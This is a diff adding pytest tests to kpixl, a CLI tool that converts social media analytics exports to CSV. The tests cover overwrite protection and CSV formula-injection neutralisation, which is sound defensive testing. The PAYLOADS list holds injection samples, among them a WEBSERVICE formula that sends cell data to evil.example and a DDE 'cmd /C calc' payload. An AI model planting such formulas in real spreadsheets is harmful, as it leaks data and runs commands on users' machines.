@@ -94,3 +94,80 @@ def test_year_mapping_and_format_options(tmp_path, exports):
     assert _read(tmp_path / "out_daily.csv")[3]["date"] == "2026-01-01"
     result = CliRunner().invoke(command, [str(exports / "x_content.csv"), "--format", "nope", "-o", str(out)])
     assert result.exit_code == 2
+
+
+def test_output_that_kpixl_did_not_write_is_refused_unless_forced(tmp_path, exports):
+    client = tmp_path / "report.csv"
+    client.write_text("Client,Budget\nACME,1000\n", encoding="utf-8")
+    args = [str(exports / "x_content.csv"), "-o", str(client)]
+    refused = CliRunner().invoke(command, args)
+    assert refused.exit_code == 1 and "was not written by kpixl" in refused.output and "--force" in refused.output
+    assert client.read_text(encoding="utf-8") == "Client,Budget\nACME,1000\n"
+    again = CliRunner().invoke(command, [*args, "--force"])
+    assert again.exit_code == 0, again.output
+    assert _read(client)[0]["network"] == "x"
+    rerun = CliRunner().invoke(command, args)  # kpixl's own output is replaced without --force
+    assert rerun.exit_code == 0, rerun.output
+
+
+def test_output_named_like_a_workbook_is_refused(tmp_path, exports):
+    workbook = tmp_path / "report.xlsx"
+    workbook.write_bytes(b"PK\x03\x04 client workbook")
+    result = CliRunner().invoke(command, [str(exports / "x_content.csv"), "-o", str(workbook), "--force"])
+    assert result.exit_code == 1 and ".csv" in result.output
+    assert workbook.read_bytes() == b"PK\x03\x04 client workbook"
+
+
+PAYLOADS = ['=WEBSERVICE("http://evil.example/?"&A1)', "+1+1", "-2+3", "@SUM(1)", "\tTab", "\rCR",
+            '=cmd|" /C calc"!A0', "plain text", "-", "a=b"]
+
+
+def test_csv_neutralises_formula_like_text(tmp_path):
+    export = tmp_path / "account_analytics_content.csv"
+    with open(export, "w", encoding="utf-8", newline="") as handle:
+        writer = csv.writer(handle, quoting=csv.QUOTE_ALL)
+        writer.writerow(["Post id", "Date", "Post text", "Impressions"])
+        writer.writerows([i, "2026-07-14", text, i] for i, text in enumerate(PAYLOADS, 1))
+    out = tmp_path / "posts.csv"
+    result = CliRunner().invoke(command, [str(export), "-o", str(out)])
+    assert result.exit_code == 0, result.output
+    texts = [row["text"] for row in _read(out)]
+    assert texts[:7] == ["'" + p for p in PAYLOADS[:7]]
+    assert texts[7:] == ["plain text", "'-", "a=b"]  # "a=b" starts harmlessly
+    from kpixl.sources import read_export
+
+    assert [r["text"] for r in read_export(out).rows][:7] == PAYLOADS[:7]  # kpixl reads its own CSV back exactly
+    raw = tmp_path / "raw.csv"
+    result = CliRunner().invoke(command, [str(export), "-o", str(raw), "--raw-text"])
+    assert result.exit_code == 0 and _read(raw)[0]["text"] == PAYLOADS[0]
+
+
+def test_csv_opened_by_libreoffice_runs_no_formula(tmp_path):
+    """The real check: LibreOffice Calc opens the neutralised CSV and every payload is text, not a result."""
+    from tests.libreoffice import require_soffice
+
+    require_soffice()
+    from tests.libreoffice import convert
+
+    export = tmp_path / "account_analytics_content.csv"
+    lines = ["Post id,Date,Post text,Impressions", '1,2026-07-14,"=1+1",5', '2,2026-07-14,"+2+2",6']
+    export.write_text("\n".join(lines) + "\n", encoding="utf-8")
+    out = tmp_path / "posts.csv"
+    assert CliRunner().invoke(command, [str(export), "-o", str(out)]).exit_code == 0
+    xlsx = convert(out, tmp_path / "lo")
+    from python_calamine import CalamineWorkbook
+
+    book = CalamineWorkbook.from_path(str(xlsx))
+    rows = book.get_sheet_by_name(book.sheet_names[0]).to_python()
+    column = rows[0].index("text")
+    assert [row[column] for row in rows[1:]] == ["'=1+1", "'+2+2"] or [row[column] for row in rows[1:]] == [
+        "=1+1", "+2+2"
+    ]
+
+
+def test_summary_says_what_a_file_does_not_report(tmp_path, exports):
+    out = tmp_path / "posts.csv"
+    result = CliRunner().invoke(command, [str(exports / "tiktok_content_time.csv"), "-o", str(out)])
+    assert result.exit_code == 0, result.output
+    assert "not reported by this file (left blank): " in result.output and "saves" in result.output
+    assert "engagements = likes + comments + shares: this file does not report saves" in result.output
